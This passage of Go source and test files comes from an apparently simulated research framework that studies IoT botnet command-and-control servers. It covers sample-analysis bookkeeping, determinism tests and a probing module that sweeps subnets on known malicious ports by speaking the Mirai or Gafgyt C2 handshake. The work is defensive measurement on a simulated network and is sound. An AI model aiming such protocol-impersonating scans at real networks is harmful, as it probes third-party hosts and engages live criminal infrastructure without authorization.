	rec.Faults = rec.Faults.Add(isoRep.Faults)
	if isoRep.TimedOut {
		rec.Disposition = DispTimedOut
	}
	rec.Exploits = ClassifyExploits(isoRep)
	out.isoCands = DetectC2(isoRep, 2)
}

// eventBudgetBuckets sizes the events-per-activation histogram: a
// healthy run fires hundreds to thousands of events; the top bucket
// boundary matches the default watchdog budget.
var eventBudgetBuckets = []int64{100, 1_000, 10_000, 100_000, 1 << 20}

// spanReport annotates a stage span with an activation report and
// attaches probe sub-spans for the established dials. Scan traffic
// makes Dials large, so only established dials are expanded and the
// omission is recorded explicitly.
func spanReport(stage *obs.Span, rep *sandbox.Report) {
	if stage == nil {
		return
	}
	stage.SetAttr("events", rep.EventsFired)
	stage.SetAttr("activated", rep.Activated)
	if rep.TimedOut {
		stage.SetAttr("timed_out", true)
	}
	stage.SetAttr("dials", len(rep.Dials))
	const maxDialSpans = 32
	emitted, omitted := 0, 0
	for _, d := range rep.Dials {
		if !d.Established {
			continue
		}
		if emitted >= maxDialSpans {
			omitted++
			continue
		}
		emitted++
		ps := stage.Child("probe.dial", d.Time)
		ps.SetAttr("dst", d.Requested.String())
		if d.Actual != d.Requested {
			ps.SetAttr("routed", d.Actual.String())
		}
		if d.Name != "" {
			ps.SetAttr("name", d.Name)
		}
		ps.SetAttr("bytes_in", d.BytesIn)
		ps.SetAttr("bytes_out", d.BytesOut)
		ps.Finish(d.Time)
	}
	if omitted > 0 {
		stage.SetAttr("dials_omitted", omitted)
	}
}

// mergeOutcome folds one outcome into the Study and, for accepted
// non-P2P samples, runs the live windows on the shared sandbox.
func (st *Study) mergeOutcome(sb *sandbox.Sandbox, out *sampleOutcome) {
	st.obs.Root.Merge(out.obs)
	switch {
	case out.filtered:
		st.FilteredArch++
	case out.rejected:
		st.Rejected++
	case out.rec != nil:
		rec := out.rec
		st.Samples = append(st.Samples, rec)
		st.Exploits = append(st.Exploits, rec.Exploits...)
		if out.isoOK && !rec.P2P {
			// P2P samples are filtered out of D-C2s (§2.3a); others
			// run the live windows on the shared clock.
			st.liveStage(sb, rec, out.raw, out.isoCands, out.span)
		}
		st.obs.Root.Counter("study.disposition." + rec.Disposition.String()).Inc()
	}
	st.finishSample(out)
}

// finishSample closes the sample's span at the (shared-clock) merge
// time, emits its trace to the journal, and ticks progress. Runs on
// the merge goroutine in feed order — the journal's determinism
// hinges on exactly that.
func (st *Study) finishSample(out *sampleOutcome) {
	if out.span != nil && out.span.End.IsZero() {
		out.span.Finish(st.W.Clock.Now())
	}
	if j := st.obs.Journal; j != nil {
		id := j.EmitSpan(0, out.span)
		for _, ev := range out.obs.DrainEvents() {
			j.EmitEvent(id, ev)
		}
	}
	st.processed++
	if st.Cfg.Observability.Progress != nil && st.processed%progressEvery == 0 {
		st.emitProgress()
	}
}
