package core

import (
	"context"
	"fmt"
	"reflect"
	"runtime"
	"sort"
	"strings"
	"testing"
	"time"

	"malnet/internal/world"
)

// equivWorldSamples sizes the equivalence worlds: big enough that
// every dataset is populated, small enough that three full runs stay
// quick. Short mode subsamples further — the mechanics under test
// don't depend on feed volume.
func equivWorldSamples() int {
	if testing.Short() {
		return 120
	}
	return 300
}

func equivStudy(t *testing.T, seed int64, workers int) *Study {
	t.Helper()
	wcfg := world.DefaultConfig(seed)
	wcfg.TotalSamples = equivWorldSamples()
	scfg := DefaultStudyConfig(seed)
	scfg.Analysis.ProbeRounds = 6
	scfg.Determinism.Workers = workers
	return RunStudy(world.Generate(wcfg), scfg)
}

// renderDatasets serializes the four datasets the way cmd/malnet
// writes them — one line per row, every field included, map-keyed
// data sorted — so byte comparison is exactly dataset equality.
func renderDatasets(st *Study) string {
	var b strings.Builder

	b.WriteString("== D-Samples ==\n")
	for _, s := range st.Samples {
		fmt.Fprintf(&b, "%s,%s,%s,%s,%s,%d,%t,%t,%t,%s,%d,%d", s.SHA, s.Date.Format(time.RFC3339),
			s.FamilyYARA, s.FamilyAVClass, s.Family, s.Detections, s.P2P, s.Activated, s.LiveDay0,
			s.Disposition, s.C2Retries, s.Faults.Total())
		for _, c := range s.C2s {
			fmt.Fprintf(&b, ",%s/%d/%t/%s", c.Address, c.Attempts, c.Live, c.Signature)
		}
		b.WriteByte('\n')
	}

	b.WriteString("== D-C2s ==\n")
	addrs := make([]string, 0, len(st.C2s))
	for a := range st.C2s {
		addrs = append(addrs, a)
	}
	sort.Strings(addrs)
	for _, a := range addrs {
		r := st.C2s[a]
		fmt.Fprintf(&b, "%s,%v,%s,%d,%s,%s,%t,%s,%t,%d,%t,%d,%t,%s\n",
			r.Address, r.Kind, r.IP, r.Port,
			r.FirstSeen.Format(time.RFC3339), r.LastSeen.Format(time.RFC3339),
			r.EverLive, r.Signature,
			r.Day0Malicious, r.Day0Vendors, r.May7Malicious, r.May7Vendors,
			r.Verified, strings.Join(r.Samples, "|"))
	}

	b.WriteString("== D-Exploits ==\n")
	for _, f := range st.Exploits {
		keys := make([]string, len(f.Vulns))
		for i, v := range f.Vulns {
			keys[i] = v.Key
		}
		fmt.Fprintf(&b, "%s,%s,%d,%s,%s,%s,%d\n", f.SHA256, f.Date.Format(time.RFC3339),
			f.Port, strings.Join(keys, "|"), f.Downloader, f.Loader, len(f.Payload))
	}

	b.WriteString("== D-DDOS ==\n")
	for _, o := range st.DDoS {
		fmt.Fprintf(&b, "%s,%s,%s,%s,%v,%v,%s,%d,%t\n", o.Time.Format(time.RFC3339),
			o.SHA256, o.C2, o.C2IP, o.Method,
			o.Command.Attack, o.Command.Target, o.Command.Port, o.Verified)
	}

	b.WriteString("== D-PC2 ==\n")
	for _, tgt := range st.MergedLiveC2s() {
		marks := make([]byte, len(tgt.Outcomes))
		for i, o := range tgt.Outcomes {
			marks[i] = "0123"[o]
		}
		fmt.Fprintf(&b, "%s,%s\n", tgt.Addr, marks)
	}
	for _, ps := range []*ProbeStudy{st.Probe, st.ProbeGafgyt} {
		if ps != nil {
			fmt.Fprintf(&b, "probes=%d retries=%d\n", ps.ProbesSent, ps.Retries)
		}
	}

	fmt.Fprintf(&b, "rejected=%d filtered=%d\n", st.Rejected, st.FilteredArch)
	return b.String()
}

// TestParallelStudyEquivalence is the executor's contract: the worker
// count is a throughput knob, not a semantic one. Workers=1 is the
// sequential reference path; 2 and 8 must render byte-identical
// datasets from the same seed.
func TestParallelStudyEquivalence(t *testing.T) {
	ref := renderDatasets(equivStudy(t, 11, 1))
	if len(ref) < 200 {
		t.Fatalf("reference render suspiciously small (%d bytes):\n%s", len(ref), ref)
	}
	for _, workers := range []int{2, 8} {
		got := renderDatasets(equivStudy(t, 11, workers))
		if got == ref {
			continue
		}
		refLines := strings.Split(ref, "\n")
		gotLines := strings.Split(got, "\n")
		for i := 0; i < len(refLines) && i < len(gotLines); i++ {
			if refLines[i] != gotLines[i] {
				t.Fatalf("workers=%d diverges from sequential at line %d:\nseq: %s\npar: %s",
					workers, i+1, refLines[i], gotLines[i])
			}
		}
		t.Fatalf("workers=%d render differs in length: %d vs %d lines",
			workers, len(refLines), len(gotLines))
	}
}

// TestSeedDeterminismRegression guards the hash-derived per-sample
// RNG chain (world seed → SampleSpec.Seed → bot/env randomness):
// identical seeds must reproduce the study exactly, different seeds
// must actually change the population.
func TestSeedDeterminismRegression(t *testing.T) {
	a := equivStudy(t, 23, 2)
	b := equivStudy(t, 23, 2)
	if !reflect.DeepEqual(a.Samples, b.Samples) {
		t.Fatal("same seed, different D-Samples")
	}
	if !reflect.DeepEqual(a.C2s, b.C2s) {
		t.Fatal("same seed, different D-C2s")
	}
	if !reflect.DeepEqual(a.Exploits, b.Exploits) {
		t.Fatal("same seed, different D-Exploits")
	}
	if !reflect.DeepEqual(a.DDoS, b.DDoS) {
		t.Fatal("same seed, different D-DDOS")
	}

	c := equivStudy(t, 24, 2)
	if len(a.Samples) == len(c.Samples) && a.Rejected == c.Rejected &&
		len(a.C2s) == len(c.C2s) && len(a.DDoS) == len(c.DDoS) {
		t.Fatalf("seeds 23 and 24 produced identical dataset shapes (%d samples, %d c2s); "+
			"per-sample RNG derivation looks seed-independent", len(a.Samples), len(a.C2s))
	}
}

// TestParallelStudyStress oversubscribes the pool (16 workers on a
// small world) so the race detector gets real interleavings to chew
// on, and still demands equivalence with the sequential path.
func TestParallelStudyStress(t *testing.T) {
	ref := renderDatasets(equivStudy(t, 31, 1))
	got := renderDatasets(equivStudy(t, 31, 16))
	if got != ref {
		t.Fatal("workers=16 output differs from sequential")
	}
}

// TestStudyCancellationLeaksNoGoroutines aborts a study mid-batch and
// checks both that it stops early and that the worker pool is fully
// torn down.
func TestStudyCancellationLeaksNoGoroutines(t *testing.T) {
	before := runtime.NumGoroutine()

	wcfg := world.DefaultConfig(5)
	wcfg.TotalSamples = equivWorldSamples()
	w := world.Generate(wcfg)
	scfg := DefaultStudyConfig(5)
	scfg.Analysis.ProbeRounds = 4
	scfg.Determinism.Workers = 8

	ctx, cancel := context.WithCancel(context.Background())
	cancel() // abort before the first batch: every dispatch must bail
	st, err := RunStudyContext(ctx, w, scfg)
	if err == nil {
		t.Fatal("cancelled study returned nil error")
	}
	if st == nil {
		t.Fatal("cancelled study returned nil study")
	}
	if got := len(st.Samples); got != 0 {
		t.Fatalf("pre-cancelled study still analyzed %d samples", got)
	}

	// A second run cancelled asynchronously, so dispatch is aborted
	// somewhere mid-study rather than at the gate.
	w2 := world.Generate(wcfg)
	ctx2, cancel2 := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		time.Sleep(50 * time.Millisecond)
		cancel2()
	}()
	if _, err := RunStudyContext(ctx2, w2, scfg); err == nil {
		// Only possible when the whole study beat the 50 ms timer,
		// which would make this leg vacuous rather than wrong.
		t.Log("study finished before the asynchronous cancel fired")
	}
	<-done

	// Workers exit via executor.close; give the runtime a moment to
	// reap them before comparing.
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if runtime.NumGoroutine() <= before {
			return
		}
		time.Sleep(10 * time.Millisecond)
		runtime.Gosched()
	}
	t.Fatalf("goroutines leaked: %d before, %d after", before, runtime.NumGoroutine())
}

// BenchmarkExecutorWorkers measures executor scaling on the small
// world (the full-scale default world is bench_test.go's
// BenchmarkStudyWorkers at the repo root).
func BenchmarkExecutorWorkers(b *testing.B) {
	for _, workers := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				wcfg := world.DefaultConfig(7)
				wcfg.TotalSamples = 300
				w := world.Generate(wcfg)
				scfg := DefaultStudyConfig(7)
				scfg.Analysis.ProbeRounds = 6
				scfg.Determinism.Workers = workers
				b.StartTimer()
				RunStudy(w, scfg)
			}
		})
	}
}
