package core

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"malnet/internal/obs"
	"malnet/internal/world"
)

// obsStudy runs a faulted study with the full observability plane
// armed — metrics registry plus JSONL trace journal — and returns the
// study, its deterministic metrics snapshot, and the journal bytes.
func obsStudy(t *testing.T, seed int64, workers int) (*Study, string, string) {
	t.Helper()
	wcfg := world.DefaultConfig(seed)
	wcfg.TotalSamples = equivWorldSamples()
	scfg := DefaultStudyConfig(seed)
	scfg.Analysis.ProbeRounds = 4
	scfg.Determinism.Workers = workers
	scfg.Determinism.Faults = true
	scfg.Determinism.FaultSeed = seed + 1000
	var journal bytes.Buffer
	observer := obs.NewObserver()
	observer.SetJournal(&journal)
	scfg.Observability.Obs = observer
	st := RunStudy(world.Generate(wcfg), scfg)
	if err := observer.Flush(); err != nil {
		t.Fatalf("journal flush: %v", err)
	}
	return st, observer.Root.Registry().Snapshot(), journal.String()
}

// diffContext pinpoints the first differing byte between two strings
// and returns a window around it for the failure message.
func diffContext(a, b string) (int, string, string) {
	at := len(a)
	for i := 0; i < len(a) && i < len(b); i++ {
		if a[i] != b[i] {
			at = i
			break
		}
	}
	clamp := func(s string) string {
		lo, hi := at-80, at+80
		if lo < 0 {
			lo = 0
		}
		if hi > len(s) {
			hi = len(s)
		}
		if lo >= hi {
			return ""
		}
		return s[lo:hi]
	}
	return at, clamp(a), clamp(b)
}

// TestObservabilityEquivalence is the observability plane's half of
// the determinism contract: with faults injected and the journal
// armed, the metrics snapshot AND the trace journal are byte-identical
// at Workers=1, 2, and 8 — telemetry is merged in feed order, never
// in completion order.
func TestObservabilityEquivalence(t *testing.T) {
	refSt, refSnap, refJournal := obsStudy(t, 11, 1)
	refRender := renderDatasets(refSt)

	// Non-vacuity: the snapshot must show real pipeline activity and
	// real injected faults, and the journal must hold span trees.
	for _, needle := range []string{
		"counter feed.samples_accepted",
		"counter sandbox.runs",
		"counter probe.attempts",
		"histogram sandbox.events_per_run",
		"counter world.simnet.conns_dialed",
	} {
		if !strings.Contains(refSnap, needle) {
			t.Fatalf("metrics snapshot missing %q:\n%s", needle, refSnap)
		}
	}
	if faultCounterTotal(refSt) == 0 {
		t.Fatal("observed study recorded zero injected faults; the plan is not metered")
	}
	if !strings.Contains(refJournal, `"name":"sample"`) || !strings.Contains(refJournal, `"name":"stage.isolated"`) {
		t.Fatalf("journal missing sample/stage spans (len=%d)", len(refJournal))
	}

	for _, workers := range []int{2, 8} {
		st, snap, journal := obsStudy(t, 11, workers)
		if snap != refSnap {
			at, a, b := diffContext(refSnap, snap)
			t.Fatalf("workers=%d metrics snapshot differs near byte %d:\nseq: %q\npar: %q", workers, at, a, b)
		}
		if journal != refJournal {
			at, a, b := diffContext(refJournal, journal)
			t.Fatalf("workers=%d trace journal differs near byte %d:\nseq: %q\npar: %q", workers, at, a, b)
		}
		if got := renderDatasets(st); got != refRender {
			at, a, b := diffContext(refRender, got)
			t.Fatalf("workers=%d datasets differ under observation near byte %d:\nseq: %q\npar: %q", workers, at, a, b)
		}
	}
}

// faultCounterTotal sums the six fault-class counters across the
// shard-side and world-side registries.
func faultCounterTotal(st *Study) int64 {
	reg := st.Metrics()
	var n int64
	for _, class := range []string{"syn_drop", "segment_drop", "reset", "latency_spike", "blackout", "slow_drip"} {
		n += reg.ReadCounter("simnet.faults." + class)
		n += reg.ReadCounter("world.simnet.faults." + class)
	}
	return n
}

// TestJournalRecordsEveryFault cross-checks the two telemetry shapes:
// every fault the counters saw must appear in the journal as a
// fault.* event carrying a valid virtual timestamp, and vice versa.
func TestJournalRecordsEveryFault(t *testing.T) {
	st, _, journal := obsStudy(t, 11, 4)

	want := faultCounterTotal(st)
	if want == 0 {
		t.Fatal("no faults metered; test is vacuous")
	}

	type line struct {
		T    string `json:"t"`
		Name string `json:"name"`
		At   string `json:"at"`
	}
	var got int64
	for _, raw := range strings.Split(strings.TrimRight(journal, "\n"), "\n") {
		var l line
		if err := json.Unmarshal([]byte(raw), &l); err != nil {
			t.Fatalf("bad journal line %q: %v", raw, err)
		}
		if l.T != "event" || !strings.HasPrefix(l.Name, "fault.") {
			continue
		}
		got++
		at, err := time.Parse(time.RFC3339Nano, l.At)
		if err != nil {
			t.Fatalf("fault event %q has unparseable virtual timestamp %q: %v", l.Name, l.At, err)
		}
		if y := at.Year(); y < 2000 || y > 2100 {
			t.Fatalf("fault event %q timestamp %v outside any plausible study window", l.Name, at)
		}
	}
	if got != want {
		t.Fatalf("journal holds %d fault events but counters metered %d", got, want)
	}
}
