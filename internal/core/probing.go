package core

import (
	"fmt"
	"net/netip"
	"sort"
	"time"

	"malnet/internal/c2"
	"malnet/internal/obs"
	"malnet/internal/simnet"
)

// ProbePorts is Table 5: the twelve ports with a history of
// malicious activity that the D-PC2 study probes.
var ProbePorts = []uint16{1312, 666, 1791, 9506, 606, 6738, 5555, 1014, 3074, 6969, 42516, 81}

// ProbeConfig parameterizes the active-probing study (§2.3b): probe
// a set of subnets across a port list every Interval for Rounds
// rounds, using a weaponized sample's C2 protocol as the probe
// payload.
type ProbeConfig struct {
	// Subnets to sweep.
	Subnets []simnet.Subnet
	// Ports per host; nil means ProbePorts.
	Ports []uint16
	// Interval between rounds; the paper uses 4 h.
	Interval time.Duration
	// Rounds is the number of sweeps; the paper's two weeks at 4 h
	// = 84.
	Rounds int
	// Family selects the weaponized protocol ("mirai" sends the
	// binary handshake and expects the ping echo; text families
	// send a login and expect the server's keepalive).
	Family string
	// SourceIP is the prober's address.
	SourceIP netip.Addr
	// EngageTimeout bounds how long a probe waits for protocol
	// engagement after connecting.
	EngageTimeout time.Duration
	// Retries is the per-probe budget of additional attempts after a
	// transient failure (timeout or reset). 0 disables retrying, which
	// keeps the clean-network schedule identical to the historical one.
	Retries int
	// RetryBase and RetryCap shape the exponential backoff between
	// attempts; defaults are 2s and 30s when Retries > 0. Delays are
	// simclock-driven — retrying never touches wall time.
	RetryBase time.Duration
	RetryCap  time.Duration
	// Seed feeds the deterministic backoff jitter.
	Seed int64
	// Obs meters probe activity (attempts, retries, virtual backoff
	// time, dispositions) onto a recorder. Nil disables metering.
	// Probe callbacks run on whichever goroutine drives the clock,
	// so the recorder must be owned by that goroutine.
	Obs *obs.Recorder
}

// ProbeOutcome is one probe's verdict.
type ProbeOutcome uint8

// Probe verdicts, ordered by strength: a round keeps its strongest.
const (
	// ProbeNoAnswer: connection refused or timed out.
	ProbeNoAnswer ProbeOutcome = iota
	// ProbeAcceptedSilent: TCP accepted but no protocol engagement.
	ProbeAcceptedSilent
	// ProbeBanner: a well-known service banner answered — the
	// ethics filter excludes the host from C2 candidacy.
	ProbeBanner
	// ProbeEngaged: the peer spoke the C2 protocol back.
	ProbeEngaged
)

// ProbeTarget aggregates one endpoint's history across rounds.
type ProbeTarget struct {
	Addr simnet.Addr
	// Outcomes has one entry per round.
	Outcomes []ProbeOutcome
	// Banner is the first banner observed, if any.
	Banner string
}

// Engagements counts rounds with protocol engagement.
func (pt *ProbeTarget) Engagements() int {
	n := 0
	for _, o := range pt.Outcomes {
		if o == ProbeEngaged {
			n++
		}
	}
	return n
}

// EverBanner reports whether the host ever presented a well-known
// banner.
func (pt *ProbeTarget) EverBanner() bool {
	for _, o := range pt.Outcomes {
		if o == ProbeBanner {
			return true
		}
	}
	return false
}

// ProbeStudy is the full D-PC2 result.
type ProbeStudy struct {
	Config ProbeConfig
	// Started is the virtual time of round 0.
	Started time.Time
	// LiveC2s are targets that engaged at least once and never
	// bannered, sorted by address. Populated at finalization.
	LiveC2s []*ProbeTarget
	// ProbesSent counts every probe attempt, including retries.
	ProbesSent int
	// Retries counts attempts that were re-dials after a transient
	// failure (so ProbesSent - Retries is the first-attempt count).
	Retries int
	// Done reports finalization (the clock passed the last round).
	Done bool
}

// Raster renders Figure 4's probe-response matrix: one row per live
// C2, one column per round, true = engaged.
func (ps *ProbeStudy) Raster() [][]bool {
	out := make([][]bool, len(ps.LiveC2s))
	for i, t := range ps.LiveC2s {
		row := make([]bool, len(t.Outcomes))
		for j, o := range t.Outcomes {
			row[j] = o == ProbeEngaged
		}
		out[i] = row
	}
	return out
}

// SecondProbeMissRate computes the §3.2 headline: the fraction of
// successful probes whose immediate next probe (Interval later) got
// no engagement.
func (ps *ProbeStudy) SecondProbeMissRate() (rate float64, pairs int) {
	var after, miss int
	for _, t := range ps.LiveC2s {
		for i := 0; i+1 < len(t.Outcomes); i++ {
			if t.Outcomes[i] == ProbeEngaged {
				after++
				if t.Outcomes[i+1] != ProbeEngaged {
					miss++
				}
			}
		}
	}
	if after == 0 {
		return 0, 0
	}
	return float64(miss) / float64(after), after
}

// MaxDailyStreak returns the longest run of consecutive engaged
// probes within any single day across live C2s (the paper: never
// 6/6 in a day).
func (ps *ProbeStudy) MaxDailyStreak() int {
	perDay := 1
	if ps.Config.Interval > 0 {
		perDay = int(24 * time.Hour / ps.Config.Interval)
	}
	best := 0
	for _, t := range ps.LiveC2s {
		for day := 0; day*perDay < len(t.Outcomes); day++ {
			run := 0
			for i := day * perDay; i < (day+1)*perDay && i < len(t.Outcomes); i++ {
				if t.Outcomes[i] == ProbeEngaged {
					run++
					if run > best {
						best = run
					}
				} else {
					run = 0
				}
			}
		}
	}
	return best
}

// RunProbing executes the study on the network, driving the clock
// through Rounds sweeps, and returns the aggregated results.
func RunProbing(n *simnet.Network, cfg ProbeConfig) *ProbeStudy {
	study := ScheduleProbing(n, cfg)
	n.Clock.RunUntil(study.Started.Add(time.Duration(study.Config.Rounds)*study.Config.Interval + study.Config.EngageTimeout + time.Second))
	return study
}

// ScheduleProbing arranges the study's rounds on the clock and
// returns the (initially empty) result aggregate. The caller — e.g.
// the year-long study driver interleaving probing with daily sample
// analysis — advances the clock; once it passes the final round plus
// the engagement timeout, Done is true and the results are complete.
func ScheduleProbing(n *simnet.Network, cfg ProbeConfig) *ProbeStudy {
	if cfg.Ports == nil {
		cfg.Ports = ProbePorts
	}
	if cfg.Interval <= 0 {
		cfg.Interval = 4 * time.Hour
	}
	if cfg.Rounds <= 0 {
		cfg.Rounds = 84
	}
	if cfg.EngageTimeout <= 0 {
		cfg.EngageTimeout = 90 * time.Second
	}
	if cfg.Family == "" {
		cfg.Family = c2.FamilyMirai
	}
	if cfg.Retries > 0 {
		if cfg.RetryBase <= 0 {
			cfg.RetryBase = 2 * time.Second
		}
		if cfg.RetryCap <= 0 {
			cfg.RetryCap = 30 * time.Second
		}
	}
	if !cfg.SourceIP.IsValid() {
		cfg.SourceIP = netip.MustParseAddr("10.98.0.2")
	}
	prober := n.AddHost(cfg.SourceIP)
	study := &ProbeStudy{Config: cfg, Started: n.Clock.Now()}

	// Counters are cached up front; a nil cfg.Obs yields nil no-op
	// counters, so the probe loop needs no conditionals.
	var (
		mAttempts  = cfg.Obs.Counter("probe.attempts")
		mRetries   = cfg.Obs.Counter("probe.retries")
		mBackoffNs = cfg.Obs.Counter("probe.backoff_virtual_ns")
		mAccepted  = cfg.Obs.Counter("probe.tcp_accepted")
		mEngaged   = cfg.Obs.Counter("probe.engaged")
		mBanners   = cfg.Obs.Counter("probe.banners")
	)

	targets := map[simnet.Addr]*ProbeTarget{}
	record := func(addr simnet.Addr, round int, o ProbeOutcome, banner string) {
		t := targets[addr]
		if t == nil {
			t = &ProbeTarget{Addr: addr, Outcomes: make([]ProbeOutcome, cfg.Rounds)}
			targets[addr] = t
		}
		// Keep the strongest verdict for the round (engagement
		// beats silence).
		if o > t.Outcomes[round] {
			t.Outcomes[round] = o
		}
		if banner != "" && t.Banner == "" {
			t.Banner = banner
		}
	}

	probeOne := func(addr simnet.Addr, round int) {
		handshake := c2.ProbeHandshake(cfg.Family)
		bo := c2.Backoff{
			Base: cfg.RetryBase, Cap: cfg.RetryCap,
			Seed: cfg.Seed, Key: fmt.Sprintf("%s#%d", addr, round),
		}
		engaged := false
		var try func(attempt int)
		try = func(attempt int) {
			study.ProbesSent++
			mAttempts.Inc()
			if attempt > 0 {
				study.Retries++
				mRetries.Inc()
			}
			connected := false
			prober.DialTCP(addr, simnet.ConnFuncs{
				Connect: func(cn *simnet.Conn) {
					connected = true
					mAccepted.Inc()
					for _, msg := range handshake {
						cn.Write(msg)
					}
					record(addr, round, ProbeAcceptedSilent, "")
					n.Clock.After(cfg.EngageTimeout, func() {
						if cn.Established() {
							cn.Close()
						}
					})
				},
				Data: func(cn *simnet.Conn, b []byte) {
					if c2.WellKnownBanner(b) {
						mBanners.Inc()
						record(addr, round, ProbeBanner, string(b[:min(len(b), 40)]))
						cn.Close()
						return
					}
					if !engaged && c2.ProbeEngaged(cfg.Family, b) {
						engaged = true
						mEngaged.Inc()
						record(addr, round, ProbeEngaged, "")
						cn.Close()
					}
				},
				Close: func(cn *simnet.Conn, err error) {
					if err == nil || engaged {
						return
					}
					if connected && c2.AliveOnReset(err) {
						// RST during the banner wait: something spoke
						// TCP and hung up on us — alive but rude, not
						// dead air.
						record(addr, round, ProbeAcceptedSilent, "")
					}
					// Under a flaky network a timeout or reset is worth
					// re-dialing, within the per-probe budget.
					if attempt < cfg.Retries && c2.TransientProbeError(err) {
						delay := bo.Delay(attempt)
						mBackoffNs.Add(int64(delay))
						n.Clock.After(delay, func() { try(attempt + 1) })
					}
				},
			})
		}
		try(0)
	}

	for round := 0; round < cfg.Rounds; round++ {
		round := round
		n.Clock.Schedule(study.Started.Add(time.Duration(round)*cfg.Interval), func() {
			for _, subnet := range cfg.Subnets {
				for _, ip := range subnet.Hosts() {
					for _, port := range cfg.Ports {
						probeOne(simnet.Addr{IP: ip, Port: port}, round)
					}
				}
			}
		})
	}
	// Finalize after the last round plus the engagement window.
	n.Clock.Schedule(study.Started.Add(time.Duration(cfg.Rounds-1)*cfg.Interval+cfg.EngageTimeout+time.Second), func() {
		for _, t := range targets {
			if t.Engagements() > 0 && !t.EverBanner() {
				study.LiveC2s = append(study.LiveC2s, t)
			}
		}
		sort.Slice(study.LiveC2s, func(i, j int) bool {
			a, b := study.LiveC2s[i].Addr, study.LiveC2s[j].Addr
			if a.IP != b.IP {
				return a.IP.Less(b.IP)
			}
			return a.Port < b.Port
		})
		study.Done = true
	})
	return study
}
