package core

import (
	"testing"
	"time"

	"malnet/internal/c2"
	"malnet/internal/faultinject"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

// probeWorld builds a small probing scenario: one /28-equivalent
// subnet (a /24 sliced by port list of 1) with a live C2, a banner
// host, and dead space.
func probeWorld(t *testing.T, duty c2.DutyCycle, alwaysOn bool) (*simnet.Network, simnet.Subnet) {
	t.Helper()
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	subnet := simnet.SubnetFrom("203.0.113.0/24")
	c2.NewServer(n, c2.ServerConfig{
		Family:   c2.FamilyMirai,
		Addr:     simnet.Addr{IP: subnet.HostAt(5), Port: 1312},
		Birth:    t0.Add(-24 * time.Hour),
		Death:    t0.Add(60 * 24 * time.Hour),
		Duty:     duty,
		AlwaysOn: alwaysOn,
	})
	banner := n.AddHost(subnet.HostAt(10))
	banner.ServeBanner(1312, "HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\n")
	return n, subnet
}

func TestProbingFindsAlwaysOnC2EveryRound(t *testing.T) {
	n, subnet := probeWorld(t, c2.DutyCycle{}, true)
	study := RunProbing(n, ProbeConfig{
		Subnets:  []simnet.Subnet{subnet},
		Ports:    []uint16{1312},
		Interval: 4 * time.Hour,
		Rounds:   6,
		Family:   c2.FamilyMirai,
	})
	if len(study.LiveC2s) != 1 {
		t.Fatalf("live C2s = %d, want 1", len(study.LiveC2s))
	}
	got := study.LiveC2s[0]
	if got.Addr != (simnet.Addr{IP: subnet.HostAt(5), Port: 1312}) {
		t.Fatalf("C2 addr = %v", got.Addr)
	}
	if got.Engagements() != 6 {
		t.Fatalf("engagements = %d, want 6", got.Engagements())
	}
}

func TestProbingExcludesBannerHosts(t *testing.T) {
	n, subnet := probeWorld(t, c2.DutyCycle{}, true)
	study := RunProbing(n, ProbeConfig{
		Subnets: []simnet.Subnet{subnet},
		Ports:   []uint16{1312},
		Rounds:  2,
		Family:  c2.FamilyMirai,
	})
	for _, live := range study.LiveC2s {
		if live.Addr.IP == subnet.HostAt(10) {
			t.Fatal("nginx banner host classified as C2")
		}
	}
}

func TestProbingElusiveC2SpottyResponses(t *testing.T) {
	n, subnet := probeWorld(t, c2.DefaultDutyCycle(77), false)
	study := RunProbing(n, ProbeConfig{
		Subnets:  []simnet.Subnet{subnet},
		Ports:    []uint16{1312},
		Interval: 4 * time.Hour,
		Rounds:   84,
		Family:   c2.FamilyMirai,
	})
	if len(study.LiveC2s) != 1 {
		t.Fatalf("live C2s = %d, want 1", len(study.LiveC2s))
	}
	eng := study.LiveC2s[0].Engagements()
	if eng == 0 || eng == 84 {
		t.Fatalf("engagements = %d, want spotty (0 < e < 84)", eng)
	}
	if streak := study.MaxDailyStreak(); streak >= 6 {
		t.Fatalf("daily streak = %d, want < 6 (paper: never 6/6)", streak)
	}
}

func TestProbingSecondMissRateNearPaper(t *testing.T) {
	// Aggregate over several elusive servers to measure the 91%
	// second-probe miss rate through the full probing stack.
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	subnet := simnet.SubnetFrom("203.0.113.0/24")
	for i := 0; i < 30; i++ {
		c2.NewServer(n, c2.ServerConfig{
			Family: c2.FamilyMirai,
			Addr:   simnet.Addr{IP: subnet.HostAt(i), Port: 1312},
			Birth:  t0.Add(-24 * time.Hour),
			Death:  t0.Add(60 * 24 * time.Hour),
			Duty:   c2.DefaultDutyCycle(int64(1000 + i)),
		})
	}
	study := RunProbing(n, ProbeConfig{
		Subnets:  []simnet.Subnet{subnet},
		Ports:    []uint16{1312},
		Interval: 4 * time.Hour,
		Rounds:   84,
		Family:   c2.FamilyMirai,
	})
	rate, pairs := study.SecondProbeMissRate()
	if pairs < 50 {
		t.Fatalf("too few success pairs: %d", pairs)
	}
	if rate < 0.80 || rate > 0.98 {
		t.Fatalf("second-probe miss rate = %.3f over %d pairs, want ~0.91", rate, pairs)
	}
}

func TestProbingGafgytProtocolEngagement(t *testing.T) {
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	subnet := simnet.SubnetFrom("203.0.113.0/24")
	c2.NewServer(n, c2.ServerConfig{
		Family:   c2.FamilyGafgyt,
		Addr:     simnet.Addr{IP: subnet.HostAt(3), Port: 666},
		Birth:    t0.Add(-time.Hour),
		Death:    t0.Add(30 * 24 * time.Hour),
		AlwaysOn: true,
	})
	study := RunProbing(n, ProbeConfig{
		Subnets: []simnet.Subnet{subnet},
		Ports:   []uint16{666},
		Rounds:  2,
		Family:  c2.FamilyGafgyt,
	})
	if len(study.LiveC2s) != 1 || study.LiveC2s[0].Engagements() != 2 {
		t.Fatalf("study = %+v", study.LiveC2s)
	}
}

func TestProbingEmptySubnetFindsNothing(t *testing.T) {
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	study := RunProbing(n, ProbeConfig{
